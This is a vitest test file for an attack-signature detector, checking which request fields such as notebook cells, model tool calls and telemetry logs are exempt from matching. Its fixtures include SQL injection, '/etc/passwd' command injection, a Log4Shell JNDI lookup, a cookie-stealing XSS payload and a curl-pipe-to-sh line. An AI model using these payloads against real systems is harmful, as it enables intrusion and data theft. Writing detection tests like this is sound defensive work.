// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what is looked for is written so.
import { expect, test } from 'vitest';
import { decoyField, unknownField } from '../../../src/attacks/fields/field-kind.ts';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';
import { signatures } from '../../../src/attacks/signatures/registry.gen.ts';

const ATTACK = "1' union select password from users--";
const SHELL = '127.0.0.1;cat /etc/passwd';
const LOOKUP = '${jndi:ldap://example.org/a}';
const SCRIPT = 'cd $(dirname "$0")/.. && pwd\nBRIDGE=${1:-br0}\ncurl -s https://example.org/a | sh\n';

function found(document: object, kindOf = unknownField): readonly string[] {
  const request = { method: 'POST', path: '/', query: '', headers: {}, contentType: 'application/json' };
  const body = JSON.stringify(document);
  return findSignatures({ ...request, body }, signatures, null, kindOf).matches.map(({ location }) => location);
}

test('cells of a notebook hold source and what it printed', () => {
  const outputs = [{ data: { 'text/html': ['<script>\n', '(function ($) {\n'] } }, { text: [SHELL] }];
  const cells = [{ source: ['{{2 + 3}}\n', 'Sys.sleep(60)\n', '[Math]::Sqrt(4)'], outputs }];
  expect(found({ cells })).toEqual([]);
  expect(found({ notebook: { cells } })).toEqual([]);
});

test('a notebook that runs markup in the browser of its reader is one that attacks', () => {
  const markup = '<img src=x onerror=alert(document.cookie)>';
  expect(found({ cells: [{ source: [markup] }] })).toEqual(['body.cells[0].source[0]']);
});

test('what a model hands to a tool, and what the tool says, is source and output', () => {
  const call = { function: { name: 'write', arguments: JSON.stringify({ path: 'a.sh', content: SCRIPT }) } };
  expect(found({ messages: [{ role: 'assistant', tool_calls: [call] }] })).toEqual([]);
  expect(found({ messages: [{ role: 'user', content: [{ type: 'tool_result', content: SCRIPT }] }] })).toEqual([]);
  expect(found({ input: [{ type: 'function_call', arguments: JSON.stringify({ command: SHELL }) }] })).toEqual([]);
  expect(found({ contents: [{ parts: [{ functionCall: { name: 'run', args: { command: SHELL } } }] }] })).toEqual([]);
});

test('records of telemetry hold what programs said', () => {
  const logRecords = [{ body: { stringValue: ATTACK } }];
  expect(found({ resourceLogs: [{ scopeLogs: [{ logRecords }] }] })).toEqual([]);
  const attributes = [{ key: 'db.statement', value: { stringValue: ATTACK } }];
  expect(found({ resourceSpans: [{ scopeSpans: [{ spans: [{ attributes }] }] }] })).toEqual([]);
});

test('a lookup runs where it is logged', () => {
  expect(found({ resourceLogs: [{ scopeLogs: [{ logRecords: [{ body: { stringValue: LOOKUP } }] }] }] })).toEqual([
    'body.resourceLogs[0].scopeLogs[0].logRecords[0].body.stringValue',
  ]);
});

test('every other field beside it is judged as ever', () => {
  expect(found({ cells: [{ source: ['x'], name: ATTACK }] })).toEqual(['body.cells[0].name']);
  expect(found({ cells: ATTACK })).toEqual(['body.cells']);
  expect(found({ source: ATTACK })).toEqual(['body.source']);
  expect(found({ messages: [{ content: ATTACK }] })).toEqual(['body.messages[0].content']);
  expect(found({ input: [{ name: ATTACK }] })).toEqual(['body.input[0].name']);
  expect(found({ resourceLogs: [{ name: ATTACK }] })).toEqual(['body.resourceLogs[0].name']);
});

test('names inside a value are whose the value is', () => {
  const padding = 'x'.repeat(5000);
  const source = [ATTACK];
  expect(found({ name: JSON.stringify({ cells: [{ source }], padding }) })).toEqual(['body.name.cells[0].source[0]']);
  const calls = JSON.stringify([{ arguments: ATTACK }, padding]);
  expect(found({ input: calls })).toEqual(['body.input[0].arguments']);
  const content = JSON.stringify([{ input: ATTACK }, padding]);
  expect(found({ messages: [{ content }] })).toEqual(['body.messages[0].content[0].input']);
});

test('a form, an address and a decoy have no such places', () => {
  const query = `cells[0].source=${encodeURIComponent(ATTACK)}`;
  expect(
    findSignatures({ method: 'GET', path: '/', query, headers: {}, contentType: '', body: '' }).matches,
  ).not.toEqual([]);
  expect(found({ cells: [{ source: ATTACK }] }, decoyField)).toEqual(['body.cells[0].source']);
});

test('a line of a log that is pushed holds what others sent', () => {
  const line = `203.0.113.9 - - "GET /?id=${ATTACK} HTTP/1.1" 404`;
  expect(found({ streams: [{ stream: { job: 'nginx' }, values: [['1700000000000000000', line]] }] })).toEqual([]);
  expect(found({ streams: [{ values: [['1', LOOKUP]] }] })).toEqual(['body.streams[0].values[0][1]']);
  expect(found({ streams: [{ stream: { job: ATTACK } }] })).toEqual(['body.streams[0].stream.job']);
  expect(found({ streams: [{ values: [['1', ATTACK]] }] }, decoyField)).not.toEqual([]);
});
